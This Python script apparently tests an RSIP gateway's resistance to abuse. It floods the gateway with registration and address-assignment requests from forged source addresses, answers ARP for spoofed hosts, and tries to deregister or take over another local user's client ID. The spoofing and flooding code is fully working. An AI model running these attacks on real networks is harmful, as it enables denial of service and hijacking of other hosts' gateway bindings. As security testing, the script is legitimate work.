"""attack_register.py - floods a gateway with registrations that are not the sender's, and speaks as a host's user

flood SECONDS RATE GATEWAY-MAC	from forged sources, on the LAN and not, from eight link-layer addresses,
				which answer ARP for some of them and go on with what they are told
user CLIENT-ID [UID]		as one of the laptop's users: tries to learn the ID, and to end the registration
"""
import os
import select
import socket
import struct
import sys
import time

import rsip
from session import Closed, Session, error_of, find

GATEWAY = '10.0.0.1'
VICTIM = 11             # the honest host's last byte
PROXIED = range(100, 250)       # sources that ARP is answered for


def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def mac_of(n):
    return bytes([2, 0, 0, 9, 9, n % 8])


def frame(gateway_mac, mac, source, port, payload):
    head = struct.pack('!BBHHHBBH', 0x45, 0, 28 + len(payload), 1, 0, 64, 17, 0) \
        + source + socket.inet_aton(GATEWAY)
    head = head[:10] + struct.pack('!H', checksum(head)) + head[12:]
    return gateway_mac + mac + b'\x08\x00' + head + \
        struct.pack('!HHHH', port, 4555, 8 + len(payload), 0) + payload


def arp_reply(request):
    """Bytes, or None where it is not about a source of ours."""
    target = request[38:42]
    if request[20:22] != b'\0\1' or target[:3] != b'\x0a\0\0' or \
            target[3] not in PROXIED:
        return None
    mac = mac_of(target[3])
    return request[6:12] + mac + b'\x08\x06' + request[14:20] + b'\0\2' + mac + \
        target + request[22:32]


def flood(seconds, rate, gateway_mac):
    gateway_mac = bytes.fromhex(gateway_mac.replace(':', ''))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind(('eth0', 0))
    register = rsip.encode(rsip.REGISTER_REQUEST, [(rsip.COUNTER, 1)])
    sent = answers = foreign = bound = 0
    start = time.monotonic()
    while (now := time.monotonic()) < start + seconds:
        while sent < (now - start) * rate:
            kind = sent % 4
            if kind == 0:       # not of this network
                source = struct.pack('!BBH', 192, 0, 512 + sent % 60000)
            elif kind == 1:     # the honest host's own
                source = bytes([10, 0, 0, VICTIM])
            elif kind == 2:     # of the network, but nobody's
                source = bytes([10, 0, 0, 20 + sent // 4 % 80])
            else:
                source = bytes([10, 0, 0, PROXIED[sent // 4 % len(PROXIED)]])
            sock.send(frame(gateway_mac, mac_of(source[3]), source,
                            1024 + sent % 60000, register))
            sent += 1
        while select.select([sock], [], [], 0.001)[0]:
            got = sock.recv(2000)
            if got[12:14] == b'\x08\x06':
                reply = arp_reply(got)
                if reply:
                    sock.send(reply)
            elif got[12:14] == b'\x08\0' and got[23] == 17 and \
                    got[34:36] == struct.pack('!H', 4555):
                answers += 1
                foreign += got[30] != 10
                said = rsip.decode(got[42:38 + struct.unpack('!H', got[38:40])[0]])
                port, to = struct.unpack('!H', got[36:38])[0], got[30:34]
                if said[0] == rsip.REGISTER_RESPONSE:
                    sock.send(frame(gateway_mac, mac_of(to[3]), to, port, rsip.encode(
                        rsip.ASSIGN_REQUEST_RSAP_IP, [
                            (rsip.CLIENT, find(said[1], rsip.CLIENT)), rsip.address(None),
                            rsip.ports(1), rsip.address(None), rsip.ports(1),
                            (rsip.COUNTER, 2)])))
                bound += said[0] == rsip.ASSIGN_RESPONSE_RSAP_IP
    print('%d forged requests: %d answered, %d to strangers, %d given a binding' % (
        sent, answers, foreign, bound))
    return foreign


def user(client):
    through = 0
    for udp in (False, True):
        s = Session(GATEWAY, udp=udp)
        got = s.request(rsip.REGISTER_REQUEST)
        assert error_of(got) == 302, got
        through += find(got[1], rsip.CLIENT) is not None
        for n in range(3):
            got = s.request(rsip.DEREGISTER_REQUEST, (rsip.CLIENT, client))
            through += got[0] == rsip.DEREGISTER_RESPONSE
        s.client = client
        through += s.assign_rsap()[0] == rsip.ASSIGN_RESPONSE_RSAP_IP
        try:
            through += s.free(1)[0] == rsip.FREE_RESPONSE
        except Closed:
            pass
    print('%d of 12 attempts of a user went through' % through)
    return through


if __name__ == '__main__':
    if sys.argv[1] == 'flood':
        sys.exit(flood(float(sys.argv[2]), float(sys.argv[3]), sys.argv[4]) != 0)
    if len(sys.argv) > 3:
        os.setgroups([])
        os.setuid(int(sys.argv[3]))
    sys.exit(user(int(sys.argv[2])) != 0)
